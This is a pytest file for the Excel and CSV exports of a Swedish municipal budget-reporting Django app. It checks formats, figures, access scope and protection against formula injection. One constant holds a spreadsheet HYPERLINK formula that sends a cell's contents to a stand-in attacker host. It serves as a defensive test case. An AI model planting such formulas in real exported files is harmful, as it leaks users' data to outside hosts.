"""Excel and CSV downloads: real numbers with number formats, frozen headers, widths, text that looks like a
formula stays text (xlsx) or is neutralised (csv), the same figures as the report, and reading scope."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from ekonomi.models import Prognos
from importer import export
from nyckeltal.models import Nyckeltalsvärde
from tests.conftest import referens, skapa_användare, tkr
from tests.importer.test_mallar import granskning, ladda_upp

FORMEL = '=HYPERLINK("http://angripare.example/?q="&A1,"Klicka här")'


def url(nämnd, tabell, typ="delårsrapport", år=2023, csv=False):
    return reverse("export-tabell-csv" if csv else "export-tabell", args=[nämnd.id, år, typ, tabell])


def arbetsbok(svar) -> openpyxl.Workbook:
    assert svar.status_code == 200, svar.content[:500]
    assert svar["Content-Type"] == export.XLSX
    assert svar["Content-Disposition"].startswith("attachment;") and svar["Content-Disposition"].endswith('.xlsx"')
    return openpyxl.load_workbook(io.BytesIO(svar.content))


def rader(ws) -> dict[str, list]:
    return {r[0].value: r for r in ws.iter_rows(min_row=2) if r[0].value is not None}


def csv_rader(svar) -> list[list[str]]:
    assert svar.status_code == 200
    assert svar["Content-Type"].startswith("text/csv")
    text = svar.content.decode("utf-8")
    assert text.startswith("\ufeff")  # BOM, so Excel reads UTF-8
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_driftredovisning_xlsx_har_tal_format_fryst_rubrik_och_bredder(client_läsare, socialnämnden):
    wb = arbetsbok(client_läsare.get(url(socialnämnden, "drift")))
    assert wb.sheetnames == ["Driftredovisning jan–aug 2023", "Om tabellen"]
    ws = wb.worksheets[0]
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == [
        "Verksamhet",
        "Nettokostnad jan–aug 2022 (tkr)",
        "Budget jan–aug 2023 (tkr)",
        "Tillägg och avdrag (tkr)",
        "Nettokostnad jan–aug 2023 (tkr)",
        "Budgetavvikelse (tkr)",
    ]
    assert all(c.font.bold for c in ws[1])
    assert ws.column_dimensions["A"].width >= 30 and ws.column_dimensions["E"].width >= 12
    per_namn = rader(ws)
    for p in referens("driftredovisning_delar_2023.csv"):
        namn = "Summa" if p["block"] == "SUMMA" else p["verksamhet"]
        celler = per_namn[namn]
        for i, c in enumerate(celler[1:], start=1):
            if i == 3 and tkr(p["tillagg_avdrag_delar_2023_tkr"]) == 0:
                assert c.value is None, namn  # no tillägg och avdrag decided: an empty cell, as "–" in the report
                continue
            assert c.data_type == "n" and isinstance(c.value, (int, float)), (namn, c.value)
            assert c.number_format == "#,##0"
        assert abs(Decimal(str(celler[2].value)) - tkr(p["kf_budget_delar_2023_tkr"])) <= 1, namn
        assert round(celler[4].value) == tkr(p["nettokostnad_delar_2023_tkr"]), namn
    assert per_namn["Summa"][0].font.bold
    assert per_namn["Summa Individ och familjeomsorg"][0].font.bold
    assert per_namn["Individ och familjeomsorg"][1].value is None  # a block heading row
    om = {r[0].value: r[1].value for r in wb["Om tabellen"].iter_rows(min_row=2)}
    assert om["Nämnd"] == "Socialnämnden" and om["Belopp"].startswith("tkr")


def test_text_som_ser_ut_som_formel_är_text_i_xlsx_och_skyddad_i_csv(client_läsare, socialnämnden):
    for namn, kommentar in (
        ("Flyktingmottagande", FORMEL),
        ("Arbetsmarknadsåtgärder", "-1+1"),
        ("Nämnd- och styrelseverksamhet", "@SUMMA(A1)"),
    ):
        Prognos.objects.filter(verksamhetsområde__namn=namn, år=2023, månad=8).update(kommentar=kommentar)
    svar = client_läsare.get(url(socialnämnden, "helar"))
    wb = arbetsbok(svar)
    ws = wb.worksheets[0]
    assert ws.cell(1, ws.max_column).value == "Kommentar"
    per_namn = rader(ws)
    cell = per_namn["Flyktingmottagande"][-1]
    assert cell.value == FORMEL and cell.data_type == "s"
    assert per_namn["Arbetsmarknadsåtgärder"][-1].value == "-1+1"
    with zipfile.ZipFile(io.BytesIO(svar.content)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")  # no formula anywhere
    # another reader sees the same string
    värden = CalamineWorkbook.from_filelike(io.BytesIO(svar.content)).get_sheet_by_index(0).to_python()
    assert any(FORMEL in rad for rad in värden)

    csv_tabell = {r[0]: r for r in csv_rader(client_läsare.get(url(socialnämnden, "helar", csv=True)))}
    assert csv_tabell["Flyktingmottagande"][-1] == "'" + FORMEL
    assert csv_tabell["Arbetsmarknadsåtgärder"][-1] == "'-1+1"
    assert csv_tabell["Nämnd- och styrelseverksamhet"][-1] == "'@SUMMA(A1)"
    # a negative number is a number, not escaped: prognosavvikelse −100 tkr
    assert csv_tabell["Nämnd- och styrelseverksamhet"][5] == "-100"


def test_drift_csv_semikolon_decimalkomma_och_negativa_tal(client_läsare, socialnämnden):
    tabell = csv_rader(client_läsare.get(url(socialnämnden, "drift", csv=True)))
    assert tabell[0][0] == "Verksamhet" and tabell[0][5] == "Budgetavvikelse (tkr)"
    per_namn = {r[0]: r for r in tabell[1:]}
    assert per_namn["Vård & omsorg i ordinärt boende övrigt"][5] == "-1204"  # see docs/beslut.md (published −1 233)
    assert per_namn["Flyktingmottagande"][1] == "-1545"  # income larger than costs in 2022
    assert per_namn["Summa"][4] == "219654"


def test_mnkr_och_negativa_kostnader(client_läsare, socialnämnden):
    kommun = socialnämnden.kommun
    kommun.beloppsenhet, kommun.kostnader_negativa = "mnkr", True
    kommun.save()
    ws = arbetsbok(client_läsare.get(url(socialnämnden, "drift"))).worksheets[0]
    summa = rader(ws)["Summa"]
    assert summa[4].number_format == "#,##0.0"
    assert round(summa[4].value, 1) == -219.7  # costs shown negative, in mnkr
    assert summa[5].value > 0  # the avvikelse keeps its meaning (positive = under budget)
    csv_summa = {r[0]: r for r in csv_rader(client_läsare.get(url(socialnämnden, "drift", csv=True)))}["Summa"]
    assert csv_summa[4] == "-219,7"


def test_volymer_indikatorer_investeringar_och_driftsbudget(client_läsare, socialnämnden):
    ws = arbetsbok(client_läsare.get(url(socialnämnden, "volymer"))).worksheets[0]
    assert [c.value for c in ws[1]][:4] == ["Område", "Nyckeltal", "Enhet", "Utfall 2019"]
    tid = next(r for r in ws.iter_rows(min_row=2) if r[1].value == "Biståndsbedömd tid")
    assert tid[3].value == 62579 and tid[3].data_type == "n" and tid[3].number_format == "#,##0"

    wb = arbetsbok(client_läsare.get(url(socialnämnden, "indikatorer")))
    ws = wb["Indikatorer"]
    rubriker = [c.value for c in ws[1]]
    assert rubriker[:7] == ["Mål", "Indikator", "Kolada-id", "Enhet", "2020", "2020 kvinnor", "2020 män"]
    u21468 = next(r for r in ws.iter_rows(min_row=2) if r[2].value == "U21468")
    assert u21468[rubriker.index("2023")].value == 94 and u21468[rubriker.index("2023 kvinnor")].value == 92
    assert u21468[rubriker.index("Källa")].value == "Kolada"
    assert {r[0].value: r[1].value for r in wb["Om tabellen"].iter_rows()}["Källa"] == "Kolada"

    ws = arbetsbok(client_läsare.get(url(socialnämnden, "investeringar"))).worksheets[0]
    assert ws.cell(1, 1).value == "Investering" and ws.cell(2, 2).data_type == "n"

    ws = arbetsbok(client_läsare.get(url(socialnämnden, "budget", "verksamhetsplan", 2024))).worksheets[0]
    assert [c.value for c in ws[1]] == [
        "Verksamhet",
        "Budget 2023 (tkr)",
        "KF-budget 2024 (tkr)",
        "Nämndbudget 2024 (tkr)",
    ]
    assert round(rader(ws)["Nämnd- och styrelseverksamhet"][2].value) == 1456


def test_exportlistan_och_tabeller_som_rapporten_saknar(client_läsare, socialnämnden):
    svar = client_läsare.get(reverse("export-lista", args=[socialnämnden.id, 2023, "delårsrapport"]))
    html = svar.content.decode()
    assert svar.status_code == 200 and url(socialnämnden, "drift", csv=True) in html
    assert url(socialnämnden, "budget") not in html  # the delårsrapport has no driftsbudget
    assert client_läsare.get(url(socialnämnden, "budget")).status_code == 404
    assert client_läsare.get(url(socialnämnden, "finns-inte")).status_code == 404
    assert client_läsare.get(url(socialnämnden, "drift", typ="okänd")).status_code == 404
    assert client_läsare.get(url(socialnämnden, "volymer", csv=True)).status_code == 404


def test_läsomfång_annan_kommun_404(client, läsare_annan, socialnämnden):
    assert client.get(url(socialnämnden, "drift")).status_code == 302  # login first
    client.force_login(läsare_annan)
    for adress in (
        url(socialnämnden, "drift"),
        url(socialnämnden, "drift", csv=True),
        reverse("export-lista", args=[socialnämnden.id, 2023, "delårsrapport"]),
        reverse("export-manad", args=[socialnämnden.id, 2023, 8]),
        reverse("importmall-ifylld", args=[socialnämnden.id, "budget", 2023]),
        reverse("importmall", args=["budget"]) + f"?namnd={socialnämnden.id}",
    ):
        assert client.get(adress).status_code == 404, adress


def test_månadsuppföljningen(client_läsare, socialnämnden):
    Prognos.objects.filter(verksamhetsområde__namn="Flyktingmottagande", år=2023, månad=8).update(kommentar=FORMEL)
    wb = arbetsbok(client_läsare.get(reverse("export-manad", args=[socialnämnden.id, 2023, 8])))
    ws = wb.worksheets[0]
    assert ws.freeze_panes == "A2" and ws.cell(1, 2).value == "Utfall aug 2023 (tkr)"
    per_namn = rader(ws)
    assert per_namn["Flyktingmottagande"][-1].value == FORMEL and per_namn["Flyktingmottagande"][-1].data_type == "s"
    assert round(per_namn["Summa"][2].value) == 219654
    assert per_namn["Summa"][8].number_format == "0.0"
    assert client_läsare.get(reverse("export-manad", args=[socialnämnden.id, 2023, 13])).status_code == 404


@pytest.mark.parametrize(
    "typ,blad",
    [
        ("budget", "Budget"),
        ("prognos", "Helårsprognos"),
        ("volymer", "Volymer och nyckeltal"),
        ("indikatorer", "Indikatorer"),
        ("kolada", "Indikatorer från Kolada"),
    ],
)
def test_tomma_importmallar_med_instruktioner(client_läsare, socialnämnden, typ, blad):
    wb = arbetsbok(client_läsare.get(reverse("importmall", args=[typ])))
    assert wb.sheetnames == [blad, "Instruktioner"]
    ws = wb[blad]
    assert ws.freeze_panes == "A2" and ws.max_row == 1 and all(c.font.bold for c in ws[1])
    instruktioner = [r[0].value for r in wb["Instruktioner"].iter_rows(min_row=2)]
    assert any("förhandsgranskning" in t for t in instruktioner)
    assert any("MB" in t for t in instruktioner)  # the limits
    wb = arbetsbok(client_läsare.get(reverse("importmall", args=[typ]) + f"?namnd={socialnämnden.id}"))
    assert wb.sheetnames == [blad, "Instruktioner", "Giltiga värden"]
    assert wb["Giltiga värden"].max_row > 1


def test_okänd_importmall_404(client_läsare):
    assert client_läsare.get(reverse("importmall", args=["utfall"])).status_code == 404


def test_budgetmallens_rubriker_kommer_från_resursen(client_läsare):
    ws = arbetsbok(client_läsare.get(reverse("importmall", args=["budget"]))).worksheets[0]
    assert [c.value for c in ws[1]][:6] == [
        "Verksamhetsområde",
        "År",
        "Slag",
        "Budgetkategori",
        "Belopp helår (kr)",
        "Kommentar",
    ]


def test_volymexporten_kan_importeras_igen_utan_ändringar(client, knivsta, socialnämnden):
    client.force_login(skapa_användare("admin-knivsta", knivsta, roll="admin"))
    svar = client.get(url(socialnämnden, "volymer"))
    g = granskning(ladda_upp(client, socialnämnden, "volymer", "volymer.xlsx", svar.content))
    assert g["fel"] == [] and (g["nya"], g["ändrade"]) == (0, 0)
    assert g["oförändrade"] == Nyckeltalsvärde.objects.filter(nyckeltal__grupp__nämnd=socialnämnden).count()


def test_xlsx_svar_generiskt():
    blad = export.Blad("Test: [a]/b*?", [export.Kolumn("Text"), export.Kolumn("Belopp", export.TKR)])
    blad.rad(["=1+1", Decimal("-1022.4")])
    blad.rad(["+46 70 123", 5])
    blad.rad(["rad\x0bbrytning från Word", None])
    wb = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes([blad, blad])))
    assert wb.sheetnames == ["Test- -a--b--", "Test- -a--b-- 2"]
    ws = wb.worksheets[0]
    assert (ws["A2"].value, ws["A2"].data_type) == ("=1+1", "s")
    assert (ws["A3"].value, ws["A3"].data_type) == ("+46 70 123", "s")
    assert (ws["B2"].value, ws["B2"].data_type, ws["B2"].number_format) == (-1022.4, "n", "#,##0")
    assert ws["A4"].value == "radbrytning från Word"
    assert ws.auto_filter.ref == "A1:B4"


def test_csv_skydd():
    for farlig in ("=1+1", "+1", "-1+1", "@A1", "\tx", "\rx"):
        assert export.skydda_csv(farlig) == "'" + farlig
    assert export.skydda_csv("Hemtjänst") == "Hemtjänst"
    blad = export.Blad(
        "b", [export.Kolumn("Text"), export.Kolumn("Belopp", export.TKR), export.Kolumn("Värde", export.VÄRDE)]
    )
    blad.rad(["-1+1", Decimal("-1022.4"), Decimal("12.50")])
    assert export.csv_text(blad).splitlines()[1] == "'-1+1;-1022;12,5"


def test_mallimportens_sidor_visar_inte_andra_importtyper(client, knivsta, socialnämnden):
    from importer.models import Import

    client.force_login(user := skapa_användare("admin-knivsta", knivsta, roll="admin"))
    imp = Import.objects.create(
        kommun=knivsta,
        nämnd=socialnämnden,
        typ="utfall",
        filnamn="u.xlsx",
        sha256="0" * 64,
        användare=user,
        status=Import.Status.GENOMFÖRD,
    )
    svar = client.get(reverse("mallimport-resultat", args=[socialnämnden.id, imp.pk]))
    assert svar.status_code == 200 and "Utfall från ekonomisystemet" in svar.content.decode()
    assert client.get(reverse("mallimport-granska", args=[socialnämnden.id, imp.pk])).status_code == 404
